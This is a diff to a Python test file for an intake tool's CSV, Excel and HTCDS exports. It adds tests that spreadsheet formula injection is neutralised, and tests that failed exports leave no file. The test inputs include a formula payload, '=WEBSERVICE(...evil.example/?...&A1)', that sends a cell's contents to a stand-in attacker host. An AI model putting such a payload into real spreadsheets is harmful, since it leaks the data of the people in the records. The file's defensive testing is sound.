@@ -1,7 +1,7 @@
 """The workspace's exports: CSV, Excel and HTCDS, read back with csv and openpyxl.
 
 Expected columns and values are written by hand (from docs/exports.md,
-docs/htcds.md and shared/HTCDS.md), not computed by the code under test.
+docs/htcds.md and the design's HTCDS.md), not computed by the code under test.
 """
 
 from __future__ import annotations
@@ -9,6 +9,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from pathlib import Path
 
 import openpyxl
@@ -284,6 +285,84 @@ def test_no_cell_of_any_format_starts_a_formula(tmp_path, start):
     assert as_dicts(xlsx_rows)[0]["q_interpreter_id"] == expected
 
 
+WEBSERVICE = '=WEBSERVICE(CHAR(104)&"ttp://evil.example/?"&A1)'
+
+
+@pytest.mark.parametrize(
+    ("typed", "exported"),
+    [
+        ("Calais;" + WEBSERVICE, "Calais;'" + WEBSERVICE),  # Excel's separator where ; is
+        ("a\n=1+1", "a\n'=1+1"),
+        ("a\r\n-1+1", "a\r\n'-1+1"),
+        ("x\t@SUM(1)", "x\t'@SUM(1)"),
+        (";+1", ";'+1"),
+        ("Calais;  =1", "Calais;  '=1"),  # spaces a reader may trim
+        ("=1;=2", "'=1;'=2"),
+        ("\t=1", "'\t'=1"),
+        ("\rcmd", "'\rcmd"),
+        ("-3", "'-3"),  # a number typed as an answer is text in the file
+        ("Khartoum; Tripoli", "Khartoum; Tripoli"),
+        ("2+2=4 - a-b @home", "2+2=4 - a-b @home"),
+        ("Calais, =1", "Calais, =1"),  # inside quotes a comma starts no cell
+        ("'=1", "'=1"),  # already neutral: unchanged, so applying twice changes nothing
+        (ARABIC, ARABIC),
+        ("ሕጂ ብሰላም ዲኻ፧", "ሕጂ ብሰላም ዲኻ፧"),
+        ("", ""),
+    ],
+)
+def test_every_part_a_reader_could_take_for_a_cell_is_neutralised(typed, exported):
+    assert exports.neutralise(typed) == exported
+
+
+def _cell_starts(text: str) -> list[str]:
+    """Every place a reader could start a cell inside this one, its leading spaces dropped."""
+    return [part.lstrip(" ") for part in re.split(r"[;\t\r\n]", text)]
+
+
+def test_hostile_answers_start_no_formula_in_any_format(tmp_path):
+    """In a locale whose list separator is ;, Excel would split an unquoted Calais;=... in two."""
+    answers = {
+        **ADULT_ANSWERS,
+        "current_location": "Calais;" + WEBSERVICE,
+        "anything_else": "a\n=1+1",
+        "transit_places": "=1",
+        "safe_contact": "own_phone",
+        "contact_phone": "+40 712 345 678;@SUM(1)",
+    }
+    record = screening(ADULT_ID, answers)
+    record["answers"]["interpreter_id"] = "x\t@SUM(1)"
+    record["answers"]["age"] = -3
+    the_cases = [Case(header(ADULT_ID), record, ";+1", None)]
+    csv_out, htcds_out = io.BytesIO(), io.BytesIO()
+    exports.write_csv(csv_out, the_cases)
+    htcds.write_htcds(htcds_out, the_cases)
+    xlsx.write_xlsx(tmp_path / "cases.xlsx", the_cases)
+    sheet = openpyxl.load_workbook(tmp_path / "cases.xlsx")["cases"]
+    xlsx_rows = [[cell.value or "" for cell in row] for row in sheet.iter_rows()]
+    csv_rows, htcds_rows = read_csv(csv_out.getvalue()), read_csv(htcds_out.getvalue())
+    for rows in (csv_rows, htcds_rows, xlsx_rows):
+        for cell in (cell for row in rows for cell in row):
+            assert not any(part.startswith(("=", "+", "-", "@")) for part in _cell_starts(cell))
+    row = as_dicts(csv_rows)[0]
+    assert row["q_current_location"] == "Calais;'" + WEBSERVICE
+    assert row["q_anything_else"] == "a\n'=1+1"
+    assert row["q_interpreter_id"] == "x\t'@SUM(1)"
+    assert row["q_age"] == "'-3"
+    assert row["field_post"] == ";'+1"
+    assert as_dicts(xlsx_rows)[0]["q_current_location"] == "Calais;'" + WEBSERVICE
+    mapped = as_dicts(htcds_rows)[0]
+    assert mapped["prs_MailingCity"] == "Calais;'" + WEBSERVICE
+    assert mapped["prs_MobilePhone"] == "'+40 712 345 678;'@SUM(1)"
+    assert mapped["hte_Description"] == ";'=1;"
+    # Every field is quoted, the plainest too: no ; is ever outside quotes.
+    raw = csv_out.getvalue().decode("utf-8")
+    assert raw.startswith('"record_id","reference","kind",')
+    assert f'"{ADULT_ID}","K7Q-6F1C","screening",' in raw
+    assert '"Calais;\'=WEBSERVICE(CHAR(104)&""ttp://evil.example/?""&A1)"' in raw
+    assert htcds_out.getvalue().decode("utf-8").startswith('"intake_RecordId","intake_Reference",')
+    assert f'\r\n"{ADULT_ID}","K7Q-6F1C","Female",' in htcds_out.getvalue().decode("utf-8")
+
+
 def test_xlsx_holds_the_same_rows_as_text_and_describes_its_columns(tmp_path):
     csv_out, xlsx_out = io.BytesIO(), io.BytesIO()
     exports.write_csv(csv_out, cases())
@@ -343,7 +422,7 @@ def test_an_empty_export_still_has_its_header_row(tmp_path):
 def test_csv_with_a_bom_for_excel():
     out = io.BytesIO()
     exports.write_csv(out, cases()[:1], bom=True)
-    assert out.getvalue().startswith(b"\xef\xbb\xbfrecord_id,")
+    assert out.getvalue().startswith(b'\xef\xbb\xbf"record_id","reference",')
     rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline="")))
     assert rows[0] == exports.export_columns()
 
@@ -389,11 +468,40 @@ def test_every_htcds_field_a_questionnaire_feeds_has_a_column():
         for question in load_questionnaire(name).questions:
             fields = {question.htcds} | {c.htcds for c in question.choices}
             assert fields - {None} <= set(HTCDS_NAMES), question.id
-    standard = (ROOT.parent / "shared" / "HTCDS.md").read_text("utf-8")
     for name in HTCDS_NAMES:
         prefix, _, field = name.partition("_")
         if prefix != "intake":
-            assert field in standard, name
+            assert field in HTCDS_STANDARD[prefix], name
+
+
+# The standard's field names by prefix, copied by hand from IOM's field
+# reference (UNMigration/HTCDS, "HTCDS Field Reference.md"), as the design's
+# HTCDS.md lists them: the export may use no other name.
+HTCDS_STANDARD = {
+    "prs": {
+        "Salutation", "FirstName", "MiddleName", "SecondName", "Birthdate", "Gender",
+        "Deceased", "Nationality", "Title", "Email", "HomePhone", "MobilePhone", "MailingCity",
+        "MailingCountry", "MailingState", "MailingStreet", "MailingPostalCode",
+        "MailingLongitude", "MailingLatitude",
+    },
+    "vic": {
+        "AgreementToManagePersonalData", "RecruitmentWebsitesAndApps", "MethodOfRecruitment",
+        "LocationOfRecruitment", "MethodsOfControl", "TypeOfLabourExploitation",
+        "LabourIndustry", "TypeOfSexExploitation", "LocationOfExploitation",
+        "ExploitationWebsitesAndApps", "Vulnerabilities", "DetailsOfVulnerabilities",
+    },
+    "per": {"RoleInProcess", "RoleDetails", "Organisation"},
+    "hte": {
+        "Longitude", "Latitude", "City", "Country", "State", "Street", "PostalCode", "Date",
+        "Type", "Description",
+    },
+    "cas": {
+        "Status", "ReferringOrganisation", "IncomingReferralDate", "ReferringPrimaryCaseWorker",
+        "ReasonForIncomingReferral", "IncomingReferralDetails", "ReferredOrganisation",
+        "ReferredPrimaryCaseWorker", "ReasonForOutgoingReferral", "OutgoingReferralDate",
+        "OutgoingReferralDetails", "ReasonForCaseClosure",
+    },
+}  # fmt: skip
 
 
 def test_intake_open_csv_writes_the_export_columns(intake_cli, keys, passphrase_file, tmp_path):
@@ -436,3 +544,70 @@ def test_the_reader_writes_each_row_as_it_comes():
     writer.write(Opened(header(CHILD_ID), b'{"a":1}'))
     assert len(read_csv(out.getvalue())) == 3
     writer.close()
+
+
+def _workspace_with(tmp_path, coordinator_key, ages: list[int]):
+    """A workspace holding one verified adult's screening per age; return it and the records."""
+    from tests.workspaces import Device, make_workspace, screening_record, store_rows
+
+    inst = make_workspace(tmp_path / "ws", coordinator_key)
+    device = Device()
+    device.pin(inst)
+    people = [{"danger_now": "no", "under_18": "no", "age": age} for age in ages]
+    records = [screening_record(p, device=device.id) for p in people]
+    store_rows(inst, [device.seal(r, [coordinator_key.public_key()]) for r in records])
+    return inst, records
+
+
+@pytest.mark.parametrize("error", [RuntimeError("a record does not open"), KeyboardInterrupt()])
+def test_an_export_that_fails_midway_leaves_no_file(
+    tmp_path, coordinator_key, passphrase_file, monkeypatch, error
+):
+    """Half an export is answers in the clear: neither the file nor its partial file stays."""
+    from intake.workspace import exporting
+
+    inst, [record] = _workspace_with(tmp_path, coordinator_key, [30])
+
+    def half_then_fail(_database, _opener, _cases, _fmt, out):
+        out.write(b'"record_id","reference"\r\n"' + record["id"].encode() + b'",')
+        out.flush()
+        raise error
+
+    monkeypatch.setattr(exporting, "export", half_then_fail)
+    folder = tmp_path / "out"
+    folder.mkdir()
+    result = _export(inst, folder / "cases.csv", passphrase_file)
+    assert result.exit_code == 1
+    assert "Wrote" not in result.output
+    assert list(folder.iterdir()) == []
+
+
+def _export(inst, out, passphrase_file):
+    from click.testing import CliRunner
+
+    from intake.commands import main
+
+    return CliRunner().invoke(
+        main,
+        ["export", "--instance", str(inst.path), "--format", "csv", "--out", str(out),
+         "--passphrase-file", str(passphrase_file)],
+    )  # fmt: skip
+
+
+def test_an_export_says_how_many_cases_did_not_open(
+    tmp_path, coordinator_key, passphrase_file, monkeypatch
+):
+    from intake.workspace import exporting
+
+    inst, _records = _workspace_with(tmp_path, coordinator_key, [30, 41, 52])
+
+    def two_skipped(_database, _opener, _cases, _fmt, out):
+        out.write(b"one case\r\n")
+        return 1, 2
+
+    monkeypatch.setattr(exporting, "export", two_skipped)
+    result = _export(inst, tmp_path / "cases.csv", passphrase_file)
+    assert result.exit_code == 1
+    assert "Wrote 1 of 3 cases to" in result.stdout
+    assert result.stderr == "intake: 2 cases did not open and are not in the file\n"
+    assert (tmp_path / "cases.csv").read_bytes() == b"one case\r\n"
